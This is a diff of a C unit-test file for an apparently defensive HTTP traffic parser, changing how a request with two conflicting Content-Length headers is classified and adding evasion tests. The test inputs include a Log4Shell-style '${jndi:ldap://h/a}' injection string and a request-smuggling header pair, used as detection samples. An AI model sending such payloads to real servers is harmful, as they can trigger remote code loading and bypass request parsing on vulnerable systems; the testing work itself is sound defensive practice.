@@ -119,7 +119,8 @@ START_TEST(a_look_up_in_a_body_given_up_is_found)
 	play(bytes_of_text("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: "
 			   "6\r\n\r\nx=${jndi:ldap://h/a}"),
 	     true, DIRECTION_IN);
-	ck_assert_int_eq(caught.result, PARSE_BAD);
+	ck_assert_int_eq(caught.result, PARSE_MORE);
+	ck_assert(caught.marked[COUNT_PROTO_HTTP_AMBIGUOUS]);
 	ck_assert_uint_eq(count_kind(&caught, OBS_JNDI), 1);
 	play(bytes_of_text("\x01garbage ${jndi:ldap://h/a}"), true, DIRECTION_IN);
 	ck_assert_int_eq(caught.result, PARSE_BAD);
@@ -310,6 +311,8 @@ START_TEST(first_bytes_are_recognised)
 }
 END_TEST
 
+#include "http_evasions.h"
+
 int main(void)
 {
 	Suite *suite = suite_create("http");
@@ -332,5 +335,6 @@ int main(void)
 	tcase_add_loop_test(c, a_host_that_is_a_number_is_bare, 0, sizeof(hosts) / sizeof(hosts[0]));
 	tcase_add_loop_test(c, first_bytes_are_recognised, 0, sizeof(probes) / sizeof(probes[0]));
 	suite_add_tcase(suite, c);
+	add_evasions(suite);
 	return talk_run(suite);
 }
